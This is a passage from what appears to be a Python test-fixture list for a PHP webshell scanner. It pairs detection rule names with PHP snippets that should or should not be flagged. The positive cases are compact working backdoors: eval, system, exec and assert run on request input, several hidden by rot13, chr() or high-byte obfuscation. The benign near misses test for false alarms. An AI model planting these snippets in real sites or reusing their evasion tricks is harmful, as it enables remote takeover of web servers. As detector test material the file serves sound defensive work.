    ),  # blind b6 b6_splfile_writer plain
    (
        "SPAMGEAR_EVASION_SplFileWriterOfInput",
        padded("<?php\n$f = new SplFileObject($_POST['f'], 'w');\n$f->fwrite($_POST['c']);\n"),
        True,
    ),  # blind b6 b6_splfile_writer padded
    (
        "SPAMGEAR_EVASION_SplFileWriterOfInput",
        embedded("<?php\n$f = new SplFileObject($_POST['f'], 'w');\n$f->fwrite($_POST['c']);\n"),
        True,
    ),  # blind b6 b6_splfile_writer embedded
    (
        "SPAMGEAR_EVASION_HighByteVarCallOfInput",
        plain("<?php\n$Ã¤ = $_GET['a'];\n$Ã¤($_GET['b']);\n"),
        True,
    ),  # blind b6 b6_highbyte_var plain
    (
        "SPAMGEAR_EVASION_HighByteVarCallOfInput",
        padded("<?php\n$Ã¤ = $_GET['a'];\n$Ã¤($_GET['b']);\n"),
        True,
    ),  # blind b6 b6_highbyte_var padded
    (
        "SPAMGEAR_EVASION_HighByteVarCallOfInput",
        embedded("<?php\n$Ã¤ = $_GET['a'];\n$Ã¤($_GET['b']);\n"),
        True,
    ),  # blind b6 b6_highbyte_var embedded
    (
        "SPAMGEAR_EVASION_HighByteVarCallOfInput",
        plain("<?php\n$Ã¶ = 'assert';\n$Ã¶($_POST['x']);\n"),
        True,
    ),  # blind b6 b6_highbyte_sink plain
    (
        "SPAMGEAR_EVASION_HighByteVarCallOfInput",
        padded("<?php\n$Ã¶ = 'assert';\n$Ã¶($_POST['x']);\n"),
        True,
    ),  # blind b6 b6_highbyte_sink padded
    (
        "SPAMGEAR_EVASION_HighByteVarCallOfInput",
        embedded("<?php\n$Ã¶ = 'assert';\n$Ã¶($_POST['x']);\n"),
        True,
    ),  # blind b6 b6_highbyte_sink embedded
    (
        "SPAMGEAR_EVASION_SinkVarToCallbackNear",
        plain("<?php\n$z = 'system';\necho call_user_func($z, $_GET['c']);\n"),
        True,
    ),  # blind b7 b7_cuf_var plain
    (
        "SPAMGEAR_EVASION_SinkVarToCallbackNear",
        padded("<?php\n$z = 'system';\necho call_user_func($z, $_GET['c']);\n"),
        True,
    ),  # blind b7 b7_cuf_var padded
    (
        "SPAMGEAR_EVASION_SinkVarToCallbackNear",
        embedded("<?php\n$z = 'system';\necho call_user_func($z, $_GET['c']);\n"),
        True,
    ),  # blind b7 b7_cuf_var embedded
    (
        "SPAMGEAR_EVASION_SinkVarToCallbackNear",
        plain("<?php\n$z = str_rot13('flfgrz');\necho call_user_func_array($z, array($_GET['c']));\n"),
        True,
    ),  # blind b7 b7_cufa_rot13 plain
    (
        "SPAMGEAR_EVASION_SinkVarToCallbackNear",
        padded("<?php\n$z = str_rot13('flfgrz');\necho call_user_func_array($z, array($_GET['c']));\n"),
        True,
    ),  # blind b7 b7_cufa_rot13 padded
    (
        "SPAMGEAR_EVASION_SinkVarToCallbackNear",
        embedded("<?php\n$z = str_rot13('flfgrz');\necho call_user_func_array($z, array($_GET['c']));\n"),
        True,
    ),  # blind b7 b7_cufa_rot13 embedded
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        plain("<?php\n$r = new ReflectionFunction(str_rot13('nffreg'));\n$r->invoke($_POST['x']);\n"),
        True,
    ),  # blind b7 b7_refl_rot13 plain
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        padded("<?php\n$r = new ReflectionFunction(str_rot13('nffreg'));\n$r->invoke($_POST['x']);\n"),
        True,
    ),  # blind b7 b7_refl_rot13 padded
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        embedded("<?php\n$r = new ReflectionFunction(str_rot13('nffreg'));\n$r->invoke($_POST['x']);\n"),
        True,
    ),  # blind b7 b7_refl_rot13 embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain("<?php\necho exec(implode(' ', $_GET));\n"),
        True,
    ),  # blind b7 b7_exec_implode plain
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php\necho exec(implode(' ', $_GET));\n"),
        True,
    ),  # blind b7 b7_exec_implode padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded("<?php\necho exec(implode(' ', $_GET));\n"),
        True,
    ),  # blind b7 b7_exec_implode embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain("<?php\n$out = system(join(' ', array_values($_POST)));\n"),
        True,
    ),  # blind b7 b7_system_join plain
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php\n$out = system(join(' ', array_values($_POST)));\n"),
        True,
    ),  # blind b7 b7_system_join padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded("<?php\n$out = system(join(' ', array_values($_POST)));\n"),
        True,
    ),  # blind b7 b7_system_join embedded
    (
        "SPAMGEAR_EVASION_BracedSuperglobalSink",
        plain("<?php\neval(${'_SERVER'}['HTTP_X_C']);\n"),
        True,
    ),  # blind b7 b7_brace_server plain
    (
        "SPAMGEAR_EVASION_BracedSuperglobalSink",
        padded("<?php\neval(${'_SERVER'}['HTTP_X_C']);\n"),
        True,
    ),  # blind b7 b7_brace_server padded
    (
        "SPAMGEAR_EVASION_BracedSuperglobalSink",
        embedded("<?php\neval(${'_SERVER'}['HTTP_X_C']);\n"),
        True,
    ),  # blind b7 b7_brace_server embedded
    (
        "SPAMGEAR_EVASION_HeaderElementVarCall",
        plain("<?php\n$h = getallheaders();\n$f = $h['X-F'];\n$f($h['X-A']);\n"),
        True,
    ),  # blind b7 b7_headers_varfunc plain
    (
        "SPAMGEAR_EVASION_HeaderElementVarCall",
        padded("<?php\n$h = getallheaders();\n$f = $h['X-F'];\n$f($h['X-A']);\n"),
        True,
    ),  # blind b7 b7_headers_varfunc padded
    (
        "SPAMGEAR_EVASION_HeaderElementVarCall",
        embedded("<?php\n$h = getallheaders();\n$f = $h['X-F'];\n$f($h['X-A']);\n"),
        True,
    ),  # blind b7 b7_headers_varfunc embedded
    (
        "SPAMGEAR_OBFUSC_ChrSuperglobalName",
        plain("<?php\n$k = chr(95) . chr(71) . chr(69) . chr(84);\n$v = $$k;\nsystem($v['c']);\n"),
        True,
    ),  # blind b7 b7_chr_sg plain
    (
        "SPAMGEAR_OBFUSC_ChrSuperglobalName",
        padded("<?php\n$k = chr(95) . chr(71) . chr(69) . chr(84);\n$v = $$k;\nsystem($v['c']);\n"),
        True,
    ),  # blind b7 b7_chr_sg padded
    (
        "SPAMGEAR_OBFUSC_ChrSuperglobalName",
        embedded("<?php\n$k = chr(95) . chr(71) . chr(69) . chr(84);\n$v = $$k;\nsystem($v['c']);\n"),
        True,
    ),  # blind b7 b7_chr_sg embedded
    (
        "SPAMGEAR_EVASION_EvalOfExceptionMessage",
        plain(
            "<?php\nset_exception_handler(function ($e) { eval($e->getMessage()); });\nthrow new Exception($_POST['x']);\n"
        ),
        True,
    ),  # blind b7 b7_exception_msg plain
    (
        "SPAMGEAR_EVASION_EvalOfExceptionMessage",
        padded(
            "<?php\nset_exception_handler(function ($e) { eval($e->getMessage()); });\nthrow new Exception($_POST['x']);\n"
        ),
        True,
    ),  # blind b7 b7_exception_msg padded
    (
        "SPAMGEAR_EVASION_EvalOfExceptionMessage",
        embedded(
            "<?php\nset_exception_handler(function ($e) { eval($e->getMessage()); });\nthrow new Exception($_POST['x']);\n"
        ),
        True,
    ),  # blind b7 b7_exception_msg embedded
    (
        "SPAMGEAR_EVASION_ExtractThenVarCall",
        plain("<?php\n$p = $_POST;\nextract($p, EXTR_SKIP);\n$a($b);\n"),
        True,
    ),  # blind b7 b7_extract_skip plain
    (
        "SPAMGEAR_EVASION_ExtractThenVarCall",
        padded("<?php\n$p = $_POST;\nextract($p, EXTR_SKIP);\n$a($b);\n"),
        True,
    ),  # blind b7 b7_extract_skip padded
    (
        "SPAMGEAR_EVASION_ExtractThenVarCall",
        embedded("<?php\n$p = $_POST;\nextract($p, EXTR_SKIP);\n$a($b);\n"),
        True,
    ),  # blind b7 b7_extract_skip embedded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain(
            "<?php\nPhar::mapPhar('app.phar');\nrequire 'phar://' . __FILE__ . '/vendor/autoload.php';\n__HALT_COMPILER();\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded(
            "<?php\nPhar::mapPhar('app.phar');\nrequire 'phar://' . __FILE__ . '/vendor/autoload.php';\n__HALT_COMPILER();\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain("<?php\ninclude 'zip://' . __DIR__ . '/bundle.zip#inc/setup.php';\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded("<?php\ninclude 'zip://' . __DIR__ . '/bundle.zip#inc/setup.php';\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain("<?php\ninclude 'http://' . $_SERVER['HTTP_HOST'] . '/header.php';\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded("<?php\ninclude 'http://' . $_SERVER['HTTP_HOST'] . '/header.php';\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain("<?php\n$page = basename($_GET['p']);\ninclude __DIR__ . '/pages/' . $page . '.php';\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded("<?php\n$page = basename($_GET['p']);\ninclude __DIR__ . '/pages/' . $page . '.php';\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        plain(
            "<?php\nclass Proxy { private $t; function __call($n, $a) { return call_user_func_array(array($this->t, $n), $a); } }\n$p = new Proxy();\n$p->save($_POST['title']);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        embedded(
            "<?php\nclass Proxy { private $t; function __call($n, $a) { return call_user_func_array(array($this->t, $n), $a); } }\n$p = new Proxy();\n$p->save($_POST['title']);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        plain(
            "<?php\nclass Fns { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$f = new Fns();\necho $f->strtoupper($_POST['name']);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        embedded(
            "<?php\nclass Fns { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$f = new Fns();\necho $f->strtoupper($_POST['name']);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        plain(
            "<?php\n$db = new SQLite3('app.db');\n$db->createFunction('regexp', 'preg_match', 2);\n$pdo->sqliteCreateFunction('md5rev', 'md5_reverse', 1);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        embedded(
            "<?php\n$db = new SQLite3('app.db');\n$db->createFunction('regexp', 'preg_match', 2);\n$pdo->sqliteCreateFunction('md5rev', 'md5_reverse', 1);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
        plain(
            "<?php\nfunction apply() { $a = func_get_args(); return $a[0]($a[1]); }\necho apply('trim', $_POST['name']);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
        embedded(
            "<?php\nfunction apply() { $a = func_get_args(); return $a[0]($a[1]); }\necho apply('trim', $_POST['name']);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
        plain(
            "<?php\nfunction first() { $a = func_get_args(); return $a[0]; }\nsave_pair($_POST['user'], $_POST['mail']);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
        embedded(
            "<?php\nfunction first() { $a = func_get_args(); return $a[0]; }\nsave_pair($_POST['user'], $_POST['mail']);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
        plain(
            "<?php\n$disabled = array('exec', 'system');\nif (in_array($_GET['fn'], $disabled, true)) { die('no'); }\n$cb = $handlers[$_GET['a']];\n$cb($_POST['x']);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
        embedded(
            "<?php\n$disabled = array('exec', 'system');\nif (in_array($_GET['fn'], $disabled, true)) { die('no'); }\n$cb = $handlers[$_GET['a']];\n$cb($_POST['x']);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
        plain(
            "<?php\n$labels = array('system' => 'System status', 'exec' => 'Executive');\necho esc_html($labels[$_GET['tab']]);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
        embedded(
            "<?php\n$labels = array('system' => 'System status', 'exec' => 'Executive');\necho esc_html($labels[$_GET['tab']]);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_BacktickOfInput",
        plain(
            "<?php\n/**\n * Reads the id from `$_GET['id']` and loads the row.\n */\n// usage: `$_GET['page']` selects the page\n$id = (int) $_GET['id'];\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_BacktickOfInput",
        embedded(
            "<?php\n/**\n * Reads the id from `$_GET['id']` and loads the row.\n */\n// usage: `$_GET['page']` selects the page\n$id = (int) $_GET['id'];\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_BacktickOfInput",
        plain("<?php\n$out = `ls -la /var/log`;\n$d = escapeshellarg($_GET['d']);\necho $out;\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_BacktickOfInput",
        embedded("<?php\n$out = `ls -la /var/log`;\n$d = escapeshellarg($_GET['d']);\necho $out;\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
        plain(
            "<?php\necho Eval_Result($_POST['x']);\n$this->System($_GET['id']);\nAssert::true($_POST['ok']);\nfunction System($cmd) { return $cmd; }\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
        embedded(
            "<?php\necho Eval_Result($_POST['x']);\n$this->System($_GET['id']);\nAssert::true($_POST['ok']);\nfunction System($cmd) { return $cmd; }\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
        plain("<?php\n$r = Evaluator::run($_POST['expr']);\necho Systematic($_GET['q']);\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
        embedded("<?php\n$r = Evaluator::run($_POST['expr']);\necho Systematic($_GET['q']);\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
        plain(
            "<?php\n$k = ('a' ^ 'b') . ('c' ^ 'd') . ('e' ^ 'f') . ('g' ^ 'h');\n$mask = ('x'^'y');\necho bin2hex($k . $mask);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
        embedded(
            "<?php\n$k = ('a' ^ 'b') . ('c' ^ 'd') . ('e' ^ 'f') . ('g' ^ 'h');\n$mask = ('x'^'y');\necho bin2hex($k . $mask);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
        plain("<?php\n$_ = 'gettext';\n$__ = 'Hello';\necho $_($__);\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
        embedded("<?php\n$_ = 'gettext';\n$__ = 'Hello';\necho $_($__);\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        plain(
            "<?php\n$in = filter_input_array(INPUT_POST);\n$out = array_map('trim', $in);\necho htmlspecialchars($out['name']);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        embedded(
            "<?php\n$in = filter_input_array(INPUT_POST);\n$out = array_map('trim', $in);\necho htmlspecialchars($out['name']);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_CodeLiteralEvalVar",
        plain("<?php\n$sig = 'eval($_POST';\n$found = strpos($content, $sig);\necho (int) $found;\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_CodeLiteralEvalVar",
        embedded("<?php\n$sig = 'eval($_POST';\n$found = strpos($content, $sig);\necho (int) $found;\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_CodeLiteralEvalVar",
        plain("<?php\n$code = 'return ' . (int) $_GET['n'] . ' + 1;';\n$r = eval($code);\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_CodeLiteralEvalVar",
        embedded("<?php\n$code = 'return ' . (int) $_GET['n'] . ' + 1;';\n$r = eval($code);\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_HexEscapedPregE",
        plain(
            "<?php\n$slug = preg_replace(\"\\x2f\\x5b\\x5e\\x61\\x2d\\x7a\\x5d\\x2f\", '', $_POST['slug']);\n$t = preg_replace(\"/\\x{00A0}/u\", ' ', $_POST['t']);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_HexEscapedPregE",
        embedded(
            "<?php\n$slug = preg_replace(\"\\x2f\\x5b\\x5e\\x61\\x2d\\x7a\\x5d\\x2f\", '', $_POST['slug']);\n$t = preg_replace(\"/\\x{00A0}/u\", ' ', $_POST['t']);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_InputNamedVariableCall",
        plain(
            "<?php\nforeach ($_GET as $k => $v) { ${$k} = $v; }\n$val = ${$_GET['field']};\necho htmlspecialchars($val);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_InputNamedVariableCall",
        embedded(
            "<?php\nforeach ($_GET as $k => $v) { ${$k} = $v; }\n$val = ${$_GET['field']};\necho htmlspecialchars($val);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        plain(
            "<?php\n$rc = new ReflectionClass('ReflectionFunction');\n$doc = $rc->getDocComment();\n$f = $rc->newInstance('strlen');\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        embedded(
            "<?php\n$rc = new ReflectionClass('ReflectionFunction');\n$doc = $rc->getDocComment();\n$f = $rc->newInstance('strlen');\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        plain("<?php\n$ref = new ReflectionClass('Logger');\n$log = $ref->newInstance('system');\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        embedded("<?php\n$ref = new ReflectionClass('Logger');\n$log = $ref->newInstance('system');\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_OBFUSC_SplitAssignSinkNameCall",
        plain("<?php\n$a = 'as';\n$b = 'sert';\necho $a . $b;\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_OBFUSC_SplitAssignSinkNameCall",
        embedded("<?php\n$a = 'as';\n$b = 'sert';\necho $a . $b;\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_OBFUSC_SplitAssignSinkNameCall",
        plain("<?php\n$prefix = 'handle_';\n$action = 'save';\ncall_user_func($prefix . $action, $_POST);\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_OBFUSC_SplitAssignSinkNameCall",
        embedded(
            "<?php\n$prefix = 'handle_';\n$action = 'save';\ncall_user_func($prefix . $action, $_POST);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_LiteralSinkCalledOnInput",
        plain(
            "<?php\nif (function_exists('system') && !empty($_GET['x'])) { $ok = in_array('exec', (array) $_POST['perms'], true); }\n_e('system'); printf('%s', esc_html($_GET['q']));\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_LiteralSinkCalledOnInput",
        embedded(
            "<?php\nif (function_exists('system') && !empty($_GET['x'])) { $ok = in_array('exec', (array) $_POST['perms'], true); }\n_e('system'); printf('%s', esc_html($_GET['q']));\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_WalkInputKeyCall",
        plain(
            "<?php\n$clean = array();\narray_walk($_POST, function ($v, $k) use (&$clean) { $clean[$k] = sanitize_text_field($v); });\narray_walk($_GET, function (&$v, $k) { $v = trim($v); });\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_WalkInputKeyCall",
        embedded(
            "<?php\n$clean = array();\narray_walk($_POST, function ($v, $k) use (&$clean) { $clean[$k] = sanitize_text_field($v); });\narray_walk($_GET, function (&$v, $k) { $v = trim($v); });\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
        plain(
            "<?php\n$json = curl_exec($ch);\n$data = json_decode($json, true);\n$res = curl_exec($ch);\ncurl_close($ch);\necho esc_html($res);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
        embedded(
            "<?php\n$json = curl_exec($ch);\n$data = json_decode($json, true);\n$res = curl_exec($ch);\ncurl_close($ch);\necho esc_html($res);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        plain(
            "<?php\n$e = 'e';\n$out = preg_replace('/' . $pat . '/' . $mods, $_POST['r'], $s);\n$t = preg_replace('/\\s+/', $_POST['sep'], $t);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        embedded(
            "<?php\n$e = 'e';\n$out = preg_replace('/' . $pat . '/' . $mods, $_POST['r'], $s);\n$t = preg_replace('/\\s+/', $_POST['sep'], $t);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_ShellStdinOfInput",
        plain(
            "<?php\n$in = $_POST['text'];\n$p = proc_open('aspell -a', $spec, $pipes);\nfwrite($pipes[0], $in);\n$q = proc_open('/bin/sh', $spec, $pipes);\nfwrite($pipes[0], \"ls -la\\n\");\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_ShellStdinOfInput",
        embedded(
            "<?php\n$in = $_POST['text'];\n$p = proc_open('aspell -a', $spec, $pipes);\nfwrite($pipes[0], $in);\n$q = proc_open('/bin/sh', $spec, $pipes);\nfwrite($pipes[0], \"ls -la\\n\");\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_ExplodedInputCall",
        plain(
            "<?php\n$parts = explode(',', $_GET['ids']);\n$first = intval($parts[0]);\n$y = explode('|', $_POST['x']);\nprintf($y[0], $y[1]);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_ExplodedInputCall",
        embedded(
            "<?php\n$parts = explode(',', $_GET['ids']);\n$first = intval($parts[0]);\n$y = explode('|', $_POST['x']);\nprintf($y[0], $y[1]);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        plain(
            "<?php\n$n = new CallbackFilterIterator($it, 'is_numeric');\n$f = new CallbackFilterIterator($files, function ($f) { return $f->isFile(); });\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        embedded(
            "<?php\n$n = new CallbackFilterIterator($it, 'is_numeric');\n$f = new CallbackFilterIterator($files, function ($f) { return $f->isFile(); });\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain("<?php\necho strval($_GET['page']);\nexec('ls ' . escapeshellarg(strval($_GET['d'])));\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded("<?php\necho strval($_GET['page']);\nexec('ls ' . escapeshellarg(strval($_GET['d'])));\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_SinkVarSpreadOnInput",
        plain(
            "<?php\n$fn = 'sprintf';\necho $fn(...[$_GET['fmt'], 1]);\n$mode = 'system';\n$args = array_map('trim', $_POST);\n$logger->log($mode, ...$args);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_SinkVarSpreadOnInput",
        embedded(
            "<?php\n$fn = 'sprintf';\necho $fn(...[$_GET['fmt'], 1]);\n$mode = 'system';\n$args = array_map('trim', $_POST);\n$logger->log($mode, ...$args);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_CopyInputToPhp",
        plain(
            "<?php\ncopy($_FILES['f']['tmp_name'], $dest . '.php');\ncopy($_POST['src'], $dir . '/' . basename($_POST['src']));\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_CopyInputToPhp",
        embedded(
            "<?php\ncopy($_FILES['f']['tmp_name'], $dest . '.php');\ncopy($_POST['src'], $dir . '/' . basename($_POST['src']));\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_BacktickVarNearInput",
        plain(
            "<?php\n$a = $_GET;\n$page = (int) $a['p'];\necho \"page $page\";\n$out = `uptime`;\necho $out;\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_BacktickVarNearInput",
        embedded(
            "<?php\n$a = $_GET;\n$page = (int) $a['p'];\necho \"page $page\";\n$out = `uptime`;\necho $out;\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain("<?php\nexec('convert ' . escapeshellarg(base64_decode($_POST['f'])) . ' out.png');\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded("<?php\nexec('convert ' . escapeshellarg(base64_decode($_POST['f'])) . ' out.png');\n"),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain(
            "<?php\n$raw = 'php://input';\n$body = file_get_contents($raw);\ninclude $tpl;\n$in = fopen('php://input', 'r');\ninclude 'data/' . urlencode($_GET['p']) . '.php';\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded(
            "<?php\n$raw = 'php://input';\n$body = file_get_contents($raw);\ninclude $tpl;\n$in = fopen('php://input', 'r');\ninclude 'data/' . urlencode($_GET['p']) . '.php';\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_BodyStreamToCodeNear",
        plain(
            "<?php\n$raw = file_get_contents('php://input');\n$data = json_decode($raw, true);\n$ok = assert_valid($data);\n$x = simplexml_load_string($_POST['xml']);\necho (string) $x->title;\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_BodyStreamToCodeNear",
        embedded(
            "<?php\n$raw = file_get_contents('php://input');\n$data = json_decode($raw, true);\n$ok = assert_valid($data);\n$x = simplexml_load_string($_POST['xml']);\necho (string) $x->title;\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_HighByteVarCallOfInput",
        plain("<?php\n$äpfel = htmlspecialchars($_POST['x']);\necho $äpfel;\n$größe = (int) $_GET['s'];\n"),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_HighByteVarCallOfInput",
        embedded(
            "<?php\n$äpfel = htmlspecialchars($_POST['x']);\necho $äpfel;\n$größe = (int) $_GET['s'];\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_SplFileWriterOfInput",
        plain(
            "<?php\n$f = new SplFileObject($_GET['f'], 'r');\necho $f->fgets();\n$log = new SplFileObject('app.log', 'a');\n$log->fwrite($_POST['msg']);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_SplFileWriterOfInput",
        embedded(
            "<?php\n$f = new SplFileObject($_GET['f'], 'r');\necho $f->fgets();\n$log = new SplFileObject('app.log', 'a');\n$log->fwrite($_POST['msg']);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . basename($_FILES['f']['name']));\nexec('file -b ' . escapeshellarg($_FILES['f']['tmp_name']));\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . basename($_FILES['f']['name']));\nexec('file -b ' . escapeshellarg($_FILES['f']['tmp_name']));\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_SinkVarToCallbackNear",
        plain(
            "<?php\n$type = 'system';\n$log = get_log($type);\ncall_user_func($handler, $_POST['id']);\n$mode = 'exec';\n$r = call_user_func($cb, $_POST['id']);\n"
        ),
        False,
    ),  # near miss plain
    (
        "SPAMGEAR_EVASION_SinkVarToCallbackNear",
        embedded(
            "<?php\n$type = 'system';\n$log = get_log($type);\ncall_user_func($handler, $_POST['id']);\n$mode = 'exec';\n$r = call_user_func($cb, $_POST['id']);\n"
        ),
        False,
    ),  # near miss embedded
    (
        "SPAMGEAR_EVASION_BracedSuperglobalSink",
